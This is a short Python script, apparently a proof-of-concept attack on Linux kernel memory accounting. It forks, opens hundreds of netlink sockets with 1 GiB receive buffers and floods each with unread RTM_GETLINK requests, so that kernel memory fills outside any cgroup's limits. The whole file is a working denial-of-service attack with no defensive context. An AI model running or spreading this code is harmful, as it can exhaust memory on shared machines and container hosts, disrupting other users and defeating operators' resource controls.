import os
import socket
import struct
import time

# Answers that nobody reads, in sockets whose queues hold megabytes: the kernel counts them as no group's.
RTM_GETLINK, NLM_F_REQUEST, LOOPBACK = 18, 1, 1
question = struct.pack("=IHHII", 32, RTM_GETLINK, NLM_F_REQUEST, 1, 0) + struct.pack("=BBHiII", 0, 0, 0, LOOPBACK, 0, 0)
held = []

os.fork()
while len(held) < 200:
    asking = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)
    asking.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
    asking.setblocking(False)
    try:
        for _ in range(3_000):
            asking.send(question)
    except OSError:
        pass
    held.append(asking)
time.sleep(60)
